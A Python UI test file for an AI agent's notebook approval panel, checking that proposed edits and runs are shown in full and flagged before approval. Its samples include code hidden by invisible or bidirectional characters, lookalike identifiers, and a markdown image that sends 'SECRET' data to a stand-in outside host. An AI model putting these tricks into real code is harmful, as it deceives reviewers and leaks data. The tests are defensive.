"""Approval questions: shown in full, in every tab, answered once."""

from __future__ import annotations

import shutil

import pytest
from playwright.sync_api import Locator, Page, expect

from tests.fakes import Scripted, calls, says
from tests.ui.conftest import OpenPage, new_file
from tests.ui.gate import Gate
from tests.ui.lab import Lab, Replies
from tests.ui.page import OpenNotebook
from tests.ui.panel import Panel
from tests.waiting import eventually

HIDDEN = (
    "\x1b", "\x07", "\x00", "\r", "\x9b", "\xa0", "\xad", "\u034f", "\u061c", "\u180e", "\u200b",
    "\u200d", "\u200e", "\u2028", "\u202e", "\u2060", "\u2066", "\u2069", "\u206f", "\ufe0f",
    "\ufeff", "\U000e0041", "\U000e0100",
)  # fmt: skip
TRICKY = f"""\
import os  # {"".join(HIDDEN[:3])}[31m {"".join(HIDDEN[4:])} if access: #
раypal = "user\u202e \u2066# check\u2069 \u2066"
\x6fѕ = раypal
print(len({"".join(HIDDEN[3:4])}"a\u200bb"), 'ａ')"""


def question(panel: Panel, words: str) -> None:
    expect(panel.region.get_by_role("group", name=words)).to_be_visible()


@pytest.mark.story
def test_what_does_not_show_is_shown_and_the_code_shown_is_the_code_run(
    open_page: OpenPage, replies: Replies, lab: Lab
) -> None:
    notebook = open_page(cells=["x = 1"])
    panel = Panel(notebook.page).open("ask")
    code = TRICKY.replace("\x00", "")  # nbformat's JSON holds it, a kernel's parser does not
    replies.append([calls("update_cell", cell_id="c0", old_string="x = 1", new_string=code),
                    calls("run_cell", cell_id="c0")])  # fmt: skip
    replies.append([says("It ran.")])
    panel.ask("Check the access.")
    question(panel, "Edit and run cell 1?")
    card = panel.region.locator(".jp-Agent-approval")
    expect(card.get_by_role("note")).to_contain_text("It contains hidden characters")
    expect(card.get_by_role("note")).to_contain_text("It contains lookalike words")
    for hidden in set(HIDDEN) - {"\x00"}:
        name = f"Hidden character U+{ord(hidden):04X}"
        mark = card.get_by_role("img", name=name, exact=True).first
        expect(mark).to_be_visible()
        assert mark.evaluate("mark => getComputedStyle(mark, '::before').content") == (
            f'"U+{ord(hidden):04X}"'
        )
        assert (mark.bounding_box() or {})["width"] > 20
    expect(card.get_by_title("Looks like another word: р U+0440, а U+0430").first).to_be_visible()
    shown = card.locator(".jp-Agent-code").last
    assert shown.evaluate("code => code.textContent") == code
    assert copied(panel.page, shown) == code
    panel.allow()
    expect(panel.log).to_contain_text("It ran.")
    assert notebook.sources()["c0"] == code
    assert [cell.source for cell in notebook.on_disk().cells] == [code]
    assert shown_in_kernel(lab, notebook) == code


def copied(page: Page, code: Locator) -> str:
    """The copied text after selecting all of it."""
    code.evaluate("code => getSelection().selectAllChildren(code)")
    page.evaluate(
        "() => document.addEventListener('copy', event =>"
        " { window.copied = event.clipboardData.getData('text/plain'); })"
    )
    page.keyboard.press("Control+c")
    return str(page.evaluate("window.copied"))


def shown_in_kernel(lab: Lab, notebook: OpenNotebook) -> str:
    """The code of the kernel's last run, as the kernel itself keeps it."""
    cell = lab.call(
        "POST", f"notebooks/{notebook.path}/cells", {"source": "print(ascii(In[-2]), end='')"}
    ).body
    ran = lab.run(notebook.path, cell["id"])
    text = "".join(output.get("text", "") for output in ran["outputs"])
    told: str = eval(text)  # a literal that our own kernel printed
    return told


def scopes(panel: Panel, name: str) -> Locator:
    """A longer approval, by its name in the menu."""
    panel.button("Allow more").click()
    return panel.region.get_by_role("menuitem", name=name, exact=True)


def test_the_questions_of_a_step_are_one_in_every_tab_and_answered_once(
    open_page: OpenPage, replies: Replies, lab: Lab
) -> None:
    notebook = open_page(cells=["x = 1", "y = 2"])
    panel = Panel(notebook.page).open("ask")
    replies.append(
        [
            calls("update_cell", cell_id="c0", old_string="1", new_string="10"),
            calls("create_cell", source="z = 3", after="c1"),
            calls("run_cell", cell_id="c0"),
        ]
    )
    replies.append([says("All done.")])
    panel.ask("Change, add and run.")
    title = "Edit cell 1, add a cell below cell 2 and run cell 1?"
    question(panel, title)
    notebook.reload()
    panel.open()
    other = Panel(open_page(path=notebook.path).page).open()
    for one in (panel, other):
        card = one.region.get_by_role("group", name=title)
        for words in ("Edit cell 1", "x = 10", "Add a cell below cell 2", "z = 3", "Run cell 1"):
            expect(card).to_contain_text(words)
        expect(one.region.get_by_role("button", name="Allow", exact=True)).to_have_count(1)
    posts: list[str] = []
    panel.page.on(
        "request",
        lambda request: (
            posts.append(request.post_data or "")
            if request.url.split("?")[0].endswith("/approvals")
            else None
        ),
    )
    panel.button("Allow").focus()
    panel.page.keyboard.press("Enter")
    for one in (panel, other):
        expect(one.region.locator(".jp-Agent-approval")).to_be_hidden()
        expect(one.log).to_contain_text("All done.")
    assert len(posts) == 1
    assert posts[0].count('"approved":true') == 3
    assert list(notebook.sources().values()) == ["x = 10", "y = 2", "z = 3"]
    assert notebook.prompt("c0") == "[1]:"


@pytest.mark.fresh
def test_edits_are_allowed_for_a_turn_and_who_allows_them_all_is_offered_the_mode(
    open_page: OpenPage, replies: Replies
) -> None:
    notebook = open_page(cells=["x = 0"])
    panel = Panel(notebook.page).open("ask")
    for number in range(3):
        replies.append([edit(number)])
    replies.append([edit(3), calls("run_cell", cell_id="c0")])
    replies.append([edit(4)])
    replies.append([says("Counted.")])
    panel.ask("Count.")
    offer = panel.region.get_by_role("note").filter(has_text="Stop asking about edits?")
    for number in range(3):
        expect(panel.region.locator(".jp-Agent-approval")).to_contain_text(f"x = {number + 1}")
        expect(offer).to_be_hidden()
        panel.button("Allow").click()
    expect(offer).to_contain_text("you can undo")
    expect(panel.region.get_by_label("Mode", exact=True)).to_have_value("ask")
    panel.button("Keep asking").click()
    expect(offer).to_be_hidden()
    scopes(panel, "All edits in this answer").click()  # and its run; later edits too
    expect(panel.log).to_contain_text("Counted.")
    eventually(notebook.sources, lambda now: now == {"c0": "x = 5"})
    assert notebook.prompt("c0") == "[1]:"
    expect(panel.region.get_by_label("Mode", exact=True)).to_have_value("ask")


LONG = "\n".join(f"step_{n} = {n}" for n in range(1, 40)) + "\nlast = 'evil'"
FREER = ("Allow more",)


def in_view(box: Locator, text: str) -> bool:
    """Whether the last line that has this text can be read: nothing of it is out of the box."""
    return bool(
        box.evaluate(
            """(box, text) => {
                const range = document.createRange();
                const nodes = document.createTreeWalker(box, NodeFilter.SHOW_TEXT);
                while (nodes.nextNode()) {
                    if (nodes.currentNode.data.includes(text)) range.selectNode(nodes.currentNode);
                }
                const [line, seen] = [range, box].map(one => one.getBoundingClientRect());
                return line.height && line.top >= seen.top - 1 && line.bottom <= seen.bottom + 1;
            }""",
            text,
        )
    )


@pytest.mark.story
def test_nothing_is_allowed_before_its_end_was_in_view(
    open_page: OpenPage, replies: Replies
) -> None:
    notebook = open_page(cells=["x = 1"])
    panel = Panel(notebook.page).open("ask")
    source = f"{LONG.replace('step_9 = 9', 'def f():' + chr(10) * 61 + '    return 9')}"
    replies.append([calls("create_cell", source=source)])
    replies.append([says("Added.")])
    panel.ask("Add it.")
    question(panel, "Add a cell at the end?")
    box = panel.region.get_by_role("group", name="Code to approve")
    for line in (*LONG.split("\n")[:8], "def f():", "60 empty lines", "return 9", "last = 'evil'"):
        expect(box).to_contain_text(line)
    expect(panel.button("Show all")).to_have_count(0)
    expect(panel.button("Allow")).to_have_count(0)
    for name in FREER:
        expect(panel.button(name)).to_be_disabled()
    assert not in_view(box, "evil")
    more = panel.button("Show the rest")
    more.dblclick()  # a press too many
    expect(panel.button("Allow")).to_be_focused()
    assert in_view(box, "evil")
    assert notebook.ids() == ["c0"]
    for name in FREER:
        expect(panel.button(name)).to_be_enabled()
    panel.button("Allow").click()
    expect(panel.log).to_contain_text("Added.")
    assert list(notebook.sources().values()) == ["x = 1", source]


def test_everything_is_within_reach_in_a_low_window(open_page: OpenPage, replies: Replies) -> None:
    panel = Panel(open_page(cells=["x = 1"]).page).open("ask")
    panel.page.set_viewport_size({"width": 640, "height": 400})  # a zoom of 200 %
    replies.append([calls("create_cell", source=LONG)])
    panel.ask("Add it.")
    question(panel, "Add a cell at the end?")
    for name in ("Stop", "Show the rest", "Deny"):
        panel.button(name).scroll_into_view_if_needed()
        expect(panel.button(name)).to_be_in_viewport(ratio=1)
    panel.button("Stop").click()
    expect(panel.log).to_contain_text("Stopped.")


def test_what_is_asked_about_is_read_and_allowed_with_keys_alone(
    open_page: OpenPage, replies: Replies
) -> None:
    notebook = open_page(cells=["x = 1", "y = 2"])
    page = notebook.page
    panel = Panel(page).open("ask")
    long = "\n".join(f"line_{n} = {n}" for n in range(60))
    replies.append(
        [
            calls(
                "update_cell", cell_id="c0", old_string="x = 1", new_string=f"{long}\nlast_x = 7"
            ),
            calls(
                "update_cell", cell_id="c1", old_string="y = 2", new_string=f"{long}\nlast_y = 8"
            ),
        ]
    )
    replies.append([says("Both.")])
    panel.ask("Change both.")
    question(panel, "Edit cells 1–2?")
    box = panel.region.get_by_role("group", name="Code to approve")
    box.focus()
    box.evaluate("box => { box.scrollTop = box.scrollHeight }")  # not past the end of the first
    eventually(lambda: in_view(box, "last_y"), bool)
    expect(panel.button("Allow")).to_have_count(0)
    page.keyboard.press("Tab")
    expect(panel.button("Show the rest")).to_be_focused()
    page.keyboard.press("Enter")
    assert in_view(box, "last_x")
    expect(panel.button("Allow")).to_be_focused()
    page.evaluate(
        """() => document.activeElement.dispatchEvent(new KeyboardEvent(
            'keydown', {key: 'Enter', repeat: true, bubbles: true, cancelable: true}))"""
    )
    assert notebook.sources() == {"c0": "x = 1", "c1": "y = 2"}
    page.keyboard.press("Enter")
    expect(panel.log).to_contain_text("Both.")
    assert notebook.sources() == {"c0": f"{long}\nlast_x = 7", "c1": f"{long}\nlast_y = 8"}
    expect(panel.message).to_have_value("")


def test_what_comes_while_the_panel_is_hidden_counts_as_unseen(
    open_page: OpenPage, replies: Replies, gate: Gate
) -> None:
    notebook = open_page(cells=["x = 1"])
    page = notebook.page
    panel = Panel(page).open("ask")
    blocks = [says("Wait."), calls("create_cell", source=LONG)]
    replies.append(Scripted(blocks=blocks, stop_after=4, then="wait", gate=gate))
    panel.ask("Add it.")
    expect(panel.log).to_contain_text("Wait.")
    page.evaluate("() => jupyterapp.shell.collapseRight()")
    gate.set()
    expect(page.locator(".jp-Agent-approval")).to_be_attached()
    page.evaluate("() => jupyterapp.shell.expandRight()")
    expect(panel.button("Show the rest")).to_be_visible()
    expect(panel.button("Allow")).to_have_count(0)


def test_what_runs_is_shown_whole_and_blank_lines_push_nothing_away(
    open_page: OpenPage, replies: Replies
) -> None:
    code = "x = 1" + "\n" * 61 + "last = 'evil'"
    notebook = open_page(cells=[code])
    panel = Panel(notebook.page).open("ask")
    replies.append([calls("run_cell", cell_id="c0")])
    replies.append([says("It ran.")])
    panel.ask("Run it.")
    question(panel, "Run cell 1?")
    box = panel.region.get_by_role("group", name="Code to approve")
    expect(box.get_by_label("60 empty lines")).to_be_visible()
    expect(panel.button("Allow")).to_be_visible()  # all of it fits
    assert in_view(box, "evil")
    shown = box.locator(".jp-Agent-code")
    assert shown.evaluate("code => code.textContent") == code
    assert copied(panel.page, shown) == code
    panel.button("Allow").click()
    expect(panel.log).to_contain_text("It ran.")


def test_each_change_names_its_notebook_where_more_than_one_is_concerned(
    open_page: OpenPage, replies: Replies, lab: Lab
) -> None:
    notebook = open_page(cells=["c = 1", "d = 1"])
    costs = notebook.path
    sales = f"old/{costs}"  # of the same name
    (lab.root / "old").mkdir(exist_ok=True)
    shutil.copy(lab.root / costs, lab.root / sales)
    page = notebook.page
    panel = Panel(page).open("ask")
    replies.append(
        [
            calls("update_cell", cell_id="c0", old_string="1", new_string="2"),
            calls("update_cell", notebook=sales, cell_id="c1", old_string="1", new_string="2"),
        ]
    )
    replies.append(
        [calls("update_cell", notebook=sales, cell_id="c0", old_string="1", new_string="3")]
    )
    replies.append([says("Both.")])
    panel.ask("Change both.")
    question(panel, f"Edit 2 notebooks? {costs} {sales}")
    closed = panel.region.get_by_role("region", name=sales, exact=True)
    expect(closed.locator(".jp-Agent-act")).to_have_text(["Edit a cell"])
    OpenNotebook(page, lab, sales).show()
    OpenNotebook(page, lab, costs).show()
    for path, act in ((costs, "Edit cell 1"), (sales, "Edit cell 2")):
        group = panel.region.get_by_role("region", name=path, exact=True)
        expect(group).to_contain_text(path)
        expect(group.locator(".jp-Agent-act")).to_have_text([act])
    panel.button("Allow").click()
    question(panel, f"Edit cell 1? {sales}")  # the only one, but not the one in front
    chip = panel.region.locator(".jp-Agent-approval .jp-Agent-chip")
    expect(chip).to_have_text(sales)
    OpenNotebook(page, lab, sales).show()
    question(panel, "Edit cell 1?")
    expect(chip).to_have_count(0)
    OpenNotebook(page, lab, costs).show()
    question(panel, f"Edit cell 1? {sales}")
    expect(chip).to_have_text(sales)
    panel.button("Allow").click()
    expect(panel.log).to_contain_text("Both.")
    panel.unfold()
    for words in (
        f"Cell 1 edited in {costs}",
        f"Cell 2 edited in {sales}",
        f"Cell 1 edited in {sales}",
    ):
        expect(panel.call(words)).to_be_visible()
    replies.append([calls("update_cell", cell_id="c1", old_string="1", new_string="3")])
    replies.append([says("One.")])
    panel.ask("Change one.")
    question(panel, "Edit cell 2?")
    expect(chip).to_have_count(0)
    panel.button("Allow").click()
    expect(panel.log).to_contain_text("One.")
    panel.unfold()
    expect(panel.call("Cell 2 edited")).to_be_visible()
    OpenNotebook(page, lab, sales).show()
    expect(panel.call(f"Cell 2 edited in {costs}")).to_be_visible()
    OpenNotebook(page, lab, costs).show()
    expect(panel.call("Cell 2 edited")).to_be_visible()


def test_who_refuses_with_a_reason_refuses_all_and_says_it_as_a_message_that_leaves_no_draft(
    open_page: OpenPage, replies: Replies, lab: Lab
) -> None:
    notebook = open_page(cells=["x = 1"])
    page = notebook.page
    panel = Panel(page).open("ask")
    replies.append(
        [
            calls("update_cell", cell_id="c0", old_string="1", new_string="10"),
            calls("run_cell", cell_id="c0"),
        ]
    )
    replies.append([says("As you like.")])
    panel.ask("Change and run.")
    question(panel, "Edit and run cell 1?")
    expect(panel.message).to_have_attribute("placeholder", "Tell it what to do instead…")
    panel.message.press_sequentially("Use <b>y</b>.")
    panel.message.press("Enter")
    expect(panel.log).to_contain_text("As you like.")
    assert notebook.sources() == {"c0": "x = 1"}
    assert str(lab.fake.requests[-1]["messages"][-1]).count("Use <b>y</b>.") == 2
    expect(panel.message).to_be_focused()
    expect(panel.message).to_have_value("")
    said = panel.log.get_by_role("article", name="Your answer")
    expect(said).to_have_text("Use <b>y</b>.")
    other = new_file(lab, "other_in_front", ["y = 1"])
    OpenNotebook(page, lab, other).show()
    panel.message.focus()
    page.keyboard.press("Shift+Enter")  # a lone line feed does not count as a draft
    chips = panel.region.locator(".jp-Agent-composer .jp-Agent-chip")
    expect(chips.first).to_contain_text(other)
    notebook.show()
    expect(chips.first).to_contain_text(notebook.path)
    OpenNotebook(page, lab, other).show()
    expect(chips.first).to_contain_text(other)
    replies.append([says("This one.")])
    panel.ask("Which one?")
    expect(panel.log).to_contain_text("This one.")
    assert other in str(lab.fake.requests[-1]["messages"][-1])
    notebook.reload()
    panel.open()
    expect(panel.log).to_contain_text("This one.")
    expect(said).to_have_text("Use <b>y</b>.")


def edit(number: int) -> dict[str, object]:
    return calls(
        "update_cell", cell_id="c0", old_string=f"x = {number}", new_string=f"x = {number + 1}"
    )


def test_type_place_and_kernel_are_said(open_page: OpenPage, replies: Replies) -> None:
    notebook = open_page(cells=["x = 1", "y = 2"])
    notebook.wait_for_kernel()  # the last card names it
    panel = Panel(notebook.page).open("ask")
    words = calls("create_cell", source="# Words", type="markdown", before="c1")
    raw = calls("create_cell", source="z", type="raw", after="nowhere")
    odd = calls("create_notebook", path="new.ipynb", kernel_name="i\u200br")
    create = calls("create_notebook", path="new.ipynb")
    for block, title, facts in (
        (words, "Add a cell above cell 2?", ["Markdown cell"]),
        (calls("create_cell", source="z = 3"), "Add a cell at the end?", ["Code cell"]),
        (raw, "Add a cell below cell “nowhere”?", ["Raw cell"]),
        (calls("update_cell", cell_id="c0", type="markdown"), "Edit cell 1?", ["Markdown cell"]),
        (calls("move_cell", cell_id="c0"), "Move cell 1 to the end?", []),
        (odd, "Create new.ipynb?", ["With the kernel “i⟨U+200B⟩r”"]),
        (create, "Create new.ipynb?", ["With the default kernel"]),
        (calls("run_code", code="1"), "Run code?", ["Kernel “python3”"]),
    ):
        replies.append([block])
        replies.append([says("As you like.")])
        panel.ask("Change it.")
        card = panel.region.get_by_role("group", name=title)
        expect(card.locator(".jp-Agent-facts")).to_have_text(facts)
        panel.button("Deny").click()
        expect(card).to_be_hidden()
        expect(panel.button("Send")).to_be_visible()
    assert notebook.sources() == {"c0": "x = 1", "c1": "y = 2"}


def test_always_says_what_it_allows_and_for_how_long(open_page: OpenPage, replies: Replies) -> None:
    notebook = open_page(cells=["x = 1", "x = !echo 2"])
    panel = Panel(notebook.page).open("ask")
    for cell in ("c0", "c0", "c1"):
        replies.append([calls("run_cell", cell_id=cell)])
    replies.append([says("Ran it.")])
    panel.ask("Run it.")
    question(panel, "Run cell 1?")
    scopes(
        panel,
        f"Run any cells in {notebook.path}, whatever its code, in this conversation, until the "
        "kernel restarts. Code with ! or % always needs approval.",
    ).click()
    question(panel, "Run cell 2?")  # the first ran again without a question
    assert notebook.prompt("c0") == "[2]:"
    panel.button("Deny").click()
    expect(panel.log).to_contain_text("Ran it.")
    replies.append([calls("create_cell", source="y = 1")])
    replies.append([says("As you like.")])
    panel.ask("Add one.")
    expect(scopes(panel, f"Add any cells in {notebook.path}, in this conversation")).to_be_visible()
    panel.page.keyboard.press("Escape")
    expect(panel.region.get_by_role("menu")).to_have_count(0)
    question(panel, "Add a cell at the end?")  # Escape closed the menu, and nothing else
    panel.button("Deny").click()


def test_an_edit_that_loads_from_elsewhere_is_asked_about_with_its_address(
    open_page: OpenPage, replies: Replies
) -> None:
    notebook = open_page(cells=["x = 1"])
    page = notebook.page
    left: list[str] = []
    page.context.on("request", lambda request: left.append(request.url))
    panel = Panel(page).open("edit")
    address = "http://stranger.invalid/p?d=SECRET-" + "0123456789" * 20
    replies.append([calls("create_cell", type="markdown", source=f"![ ]({address})")])
    replies.append([says("Asked.")])
    panel.ask("Illustrate it.")
    question(panel, "Add a cell at the end?")
    card = panel.region.locator(".jp-Agent-approval")
    note = card.get_by_role("note")
    expect(note).to_contain_text("contacts another server")
    expect(note).to_contain_text(address)
    assert note.evaluate("note => note.scrollWidth <= note.clientWidth")
    for name in FREER:
        expect(panel.button(name)).to_have_count(0)
    assert not [url for url in left if "stranger.invalid" in url]
    panel.button("Allow").click()
    expect(panel.log).to_contain_text("Asked.")
    eventually(lambda: [url for url in left if "stranger.invalid" in url], bool)
